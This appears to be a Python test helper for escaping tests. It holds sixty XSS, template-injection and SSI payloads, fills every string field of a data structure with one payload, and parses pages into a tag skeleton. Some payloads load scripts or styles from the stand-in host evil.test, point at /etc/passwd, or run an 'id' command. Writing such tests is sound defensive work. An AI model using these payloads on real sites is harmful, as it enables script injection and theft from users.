"""Sixty texts that somebody types to make a page run what he wrote: tags, attributes, addresses, templates, encodings."""

from html.parser import HTMLParser
from typing import Any, get_args, get_origin

from msgspec import Struct, structs

PAYLOADS = (
    "<script>window.hit=1</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "</script><script>window.hit=1</script>",
    "<script\n>window.hit=1</script\n>",
    "<script/x>window.hit=1</script>",
    '"><script>window.hit=1</script>',
    "'><script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "</textarea><script>window.hit=1</script>",
    "</style><script>window.hit=1</script>",
    "</option></select><script>window.hit=1</script>",
    "--><script>window.hit=1</script><!--",
    "]]><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<img src=x oNeRrOr=window.hit=1//",
    "<IMG SRC=`javascript:window.hit=1`>",
    '<img src="x:x" onerror="window.hit=1">',
    "<img/src=x/onerror=window.hit=1>",
    "<img srcset=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg/onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.hit=1'><text x=20 y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'>",
    "<math><mi//xlink:href='data:x,<script>window.hit=1</script>'>",
    "<math href='javascript:window.hit=1'>x</math>",
    "<body onload=window.hit=1>",
    "<iframe src='javascript:window.hit=1'></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data='javascript:window.hit=1'></object>",
    "<embed src='javascript:window.hit=1'>",
    "<base href='//evil.test/'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.hit=1'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=attachment href='file:///etc/passwd'>",
    "<style>*{background:url(//evil.test/x)}</style>",
    "<style>@import '//evil.test/x.css';</style>",
    "<form action='//evil.test/'><button>领奖</button></form>",
    "<input autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<audio src=x onerror=window.hit=1>",
    "<marquee onstart=window.hit=1>",
    "<a href='javascript:window.hit=1'>看</a>",
    "<a href='&#106;avascript:window.hit=1'>看</a>",
    "<a href='java\tscript:window.hit=1'>看</a>",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    '" onmouseover="window.hit=1',
    "' autofocus onfocus='window.hit=1",
    "` onclick=`window.hit=1",
    "javascript:window.hit=1//",
    "data:text/html,<script>window.hit=1</script>",
    "{{ 7*7 }}{% raw %}",
    "{{ cycler.__init__.__globals__ }}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "\u2028<script>window.hit=1</script>\u202e<!--#exec cmd='id'-->",
)


def poison(value: Any, text: str, kind: Any = None) -> Any:
    """A page with a text in every field of type str but icons and outlines, which the server makes itself."""
    if isinstance(value, Struct):
        drawn = ("icon", "path") if type(value).__name__ in ("ZoneDrawn", "Way") else ("icon",)
        fields = [field for field in structs.fields(value) if field.name not in drawn]
        return structs.replace(value, **{f.name: poison(getattr(value, f.name), text, f.type) for f in fields})
    if get_origin(kind) is tuple:
        return tuple(poison(item, text, get_args(kind)[0]) for item in value)
    return text if kind is str else value


class Skeleton(HTMLParser):
    """A page without its words: tags with the names of their attributes, in order; comments and declarations too."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.bones: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.bones.append(f"<{tag} {' '.join(name for name, _ in attrs)}>")

    def handle_endtag(self, tag: str) -> None:
        self.bones.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.bones.append("<!-->")
